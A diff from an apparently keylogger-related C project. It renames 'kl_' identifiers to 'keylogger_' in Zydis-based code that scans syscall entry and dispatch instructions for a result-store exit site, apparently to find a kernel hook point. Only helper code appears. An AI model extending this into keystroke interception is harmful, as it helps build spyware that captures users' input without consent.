@@ -24,7 +24,7 @@ struct insn {
 	ZydisDecodedOperand zo[ZYDIS_MAX_OPERAND_COUNT];
 };
 
-static bool decode(const struct kl_site_reader *rd, ZydisDecoder *dec, uint64_t va, struct insn *in)
+static bool decode(const struct keylogger_site_reader *rd, ZydisDecoder *dec, uint64_t va, struct insn *in)
 {
 	uint8_t b[16];
 	uint32_t n = sizeof(b);
@@ -67,11 +67,11 @@ static bool is_result_store(const struct insn *in)
 	const ZydisDecodedOperand *o = in->zo;
 	return in->mnem == ZYDIS_MNEMONIC_MOV && o[0].type == ZYDIS_OPERAND_TYPE_MEMORY &&
 	       o[0].mem.base != ZYDIS_REGISTER_NONE && o[0].mem.index == ZYDIS_REGISTER_NONE &&
-	       o[0].mem.disp.value == KL_PTREGS_AX && o[1].type == ZYDIS_OPERAND_TYPE_REGISTER &&
+	       o[0].mem.disp.value == KEYLOGGER_PTREGS_AX && o[1].type == ZYDIS_OPERAND_TYPE_REGISTER &&
 	       o[1].reg.value == ZYDIS_REGISTER_RAX;
 }
 
-static uint64_t scan_do_syscall(const struct kl_site_reader *rd, ZydisDecoder *dec, uint64_t fn,
+static uint64_t scan_do_syscall(const struct keylogger_site_reader *rd, ZydisDecoder *dec, uint64_t fn,
 				uint64_t dispatch, uint64_t table)
 {
 	struct insn in;
@@ -101,7 +101,7 @@ static uint64_t scan_do_syscall(const struct kl_site_reader *rd, ZydisDecoder *d
 	return 0;
 }
 
-int kl_find_exit_site(const struct kl_site_reader *rd, uint64_t entry, uint64_t dispatch, uint64_t table,
+int keylogger_find_exit_site(const struct keylogger_site_reader *rd, uint64_t entry, uint64_t dispatch, uint64_t table,
 		      uint64_t *site, uint64_t *dsc, char *why, size_t whylen)
 {
 	ZydisDecoder dec;
